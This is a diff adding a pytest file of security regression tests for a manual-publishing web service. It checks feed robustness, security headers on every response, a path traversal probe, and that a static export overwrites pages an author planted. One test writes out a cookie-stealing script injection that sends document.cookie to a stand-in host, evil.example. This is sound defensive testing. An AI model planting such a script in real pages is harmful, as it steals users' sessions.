@@ -1,0 +1,101 @@
+"""Attacks found by exploratory testing (docs/operators.md, "Security"), each kept from coming
+back: what an author can commit, what anyone can ask the service, what a static export does
+with the folder it is given.
+"""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Iterator
+from datetime import date
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from conftest import SCHEDULE, ManualRepo, doc
+from fastapi.testclient import TestClient
+
+from web.app import create_app
+from web.export import build_site
+
+TODAY = date(2024, 3, 20)
+BASE = "https://procedures.example.org"
+EVERY_RESPONSE = ("content-security-policy", "x-content-type-options", "referrer-policy",
+                  "x-frame-options")  # fmt: skip
+
+
+@pytest.fixture
+def pasted(repo: ManualRepo) -> ManualRepo:
+    """A chapter pasted from a word processor: a vertical tab (Word's line break) in its title
+    and a form feed in its change note, characters XML 1.0 cannot hold."""
+    repo.commit({"manual.toml": SCHEDULE}, "Settings", "2023-12-01T09:00:00+00:00")
+    repo.commit({"a.md": doc("A", "Body\x0btext.", title='"Referrals\\vand\\x01 Assessments"')},
+                "Add", "2024-01-02T10:00:00+00:00",
+                trailers={"Change-Note": "Pasted\x0c from Word\x1b[31m."})  # fmt: skip
+    return repo
+
+
+def test_a_control_character_an_author_pasted_never_breaks_a_feed(pasted: ManualRepo):
+    with TestClient(create_app(pasted.open(), TODAY), raise_server_exceptions=False) as web:
+        for address in ("/feeds/releases.atom", "/chapters/a/feed.atom"):
+            response = web.get(address)
+            assert response.status_code == 200, (address, response.text[:300])
+            feed = ElementTree.fromstring(response.content)  # well-formed XML 1.0
+            text = "".join(feed.itertext())
+            assert "Referrals and  Assessments" in text and "Pasted" in text
+
+
+@pytest.fixture
+def failing(repo: ManualRepo) -> Iterator[TestClient]:
+    """The service with one more address, which fails as a bug in a route would."""
+    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
+    app = create_app(repo.open(), TODAY)
+
+    def broken() -> None:
+        raise RuntimeError("a bug")
+
+    app.add_api_route("/broken", broken, methods=["GET", "HEAD"])
+    with TestClient(app, raise_server_exceptions=False) as web:
+        yield web
+
+
+def test_an_unexpected_error_s_page_carries_the_security_headers(failing: TestClient):
+    for method in ("GET", "HEAD"):
+        response = failing.request(method, "/broken")
+        assert response.status_code == 500
+        assert [h for h in EVERY_RESPONSE if h not in response.headers] == [], method
+    page = failing.get("/broken")
+    nonce = page.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
+    assert f'nonce="{nonce}"' in page.text  # the page's own scripts still run
+
+
+def test_every_kind_of_answer_carries_the_security_headers(failing: TestClient, tmp_path: Path):
+    for address in ("/", "/nope", "/chapters/a/", "/static/favicon.svg", "/healthz",
+                    "/api/chapters/a", "/api/chapters/..%2f", "/chapters/a/feed.atom"):  # fmt: skip
+        for method in ("GET", "HEAD"):
+            response = failing.request(method, address, follow_redirects=False)
+            missing = [h for h in EVERY_RESPONSE if h not in response.headers]
+            assert missing == [], (method, address, response.status_code)
+    response = failing.post("/chapters")
+    assert response.status_code == 405 and "content-security-policy" in response.headers
+
+
+def test_a_folder_committed_with_a_manifest_cannot_slip_its_own_pages_into_an_export(
+    repo: ManualRepo,
+):
+    """An author commits ``public/`` holding a real build's manifest and a page of their own
+    at the address of one of the build's; CI then builds into ``public/`` in its checkout. The
+    manifest says the page is ours and unchanged: it must still be what this build makes."""
+    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
+    honest = repo.path.parent / "honest"
+    build_site(repo.open(), honest, BASE, TODAY)
+    public = repo.path / "public"
+    shutil.copytree(honest, public, ignore=shutil.ignore_patterns(".tracker-build.lock"))
+    planted = '<script>location="https://evil.example/"+document.cookie</script>'
+    for page in ("index.html", "chapters/a/index.html", "static/app.js"):
+        (public / page).write_text(planted, encoding="utf-8")
+    repo.git("add", "--all")
+    repo.git("commit", "--quiet", "-m", "Add the site")
+    build_site(repo.open(), public, BASE, TODAY)
+    for page in ("index.html", "chapters/a/index.html", "static/app.js"):
+        assert (public / page).read_bytes() == (honest / page).read_bytes(), page
